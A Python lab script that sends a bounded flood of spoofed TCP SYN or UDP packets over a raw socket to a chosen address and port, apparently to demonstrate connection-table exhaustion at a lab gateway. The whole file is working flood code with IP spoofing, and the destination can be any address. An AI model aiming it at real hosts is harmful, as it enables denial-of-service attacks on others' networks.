#!/usr/bin/env python3
"""Bounded raw-socket flood for the namespace lab: spoofed TCP SYNs or UDP datagrams.

Sends COUNT packets to DST:PORT (a lab address) within at most SECONDS, from random sources
in SRC_NET (a /16), then prints how many it sent. Needs root (a raw socket); run it only
inside a lab namespace. No third-party modules.

The spoofed sources default to 198.19.0.0/16 (RFC 2544's benchmarking block, never a real
host): the lab routes nothing there, so answers to the flood die in the gateway's namespace.
The lab's own outside /24 is not used: its 253 addresses include the lab's hosts, which would
answer the gateway's SYN-ACKs with RSTs and so keep the table from filling.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_header(src: bytes, dst: bytes, proto: int, length: int) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.getrandbits(16), 0, 64, proto, 0, src, dst)
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:]


def syn(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ip_header(src, dst, 6, len(tcp)) + tcp


def udp(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    payload = b"flood"
    datagram = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    pseudo = src + dst + struct.pack("!BBH", 0, 17, len(datagram))
    datagram = datagram[:6] + struct.pack("!H", checksum(pseudo + datagram) or 0xFFFF) + datagram[8:]
    return ip_header(src, dst, 17, len(datagram)) + datagram


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=["syn", "udp"])
    parser.add_argument("dst")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=50000)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--src-net", default="198.19.0.0/16")
    args = parser.parse_args()
    net = ipaddress.ip_network(args.src_net)
    base, size = int(net.network_address), net.num_addresses
    dst = socket.inet_aton(args.dst)
    build = syn if args.kind == "syn" else udp
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    deadline = time.monotonic() + args.seconds
    sent = 0
    while sent < args.count and time.monotonic() < deadline:
        src = struct.pack("!I", base + random.randrange(1, size - 1))
        packet = build(src, dst, random.randrange(1024, 65535), args.port)
        try:
            sock.sendto(packet, (args.dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
    print(f"{args.kind} sent {sent}")


if __name__ == "__main__":
    main()
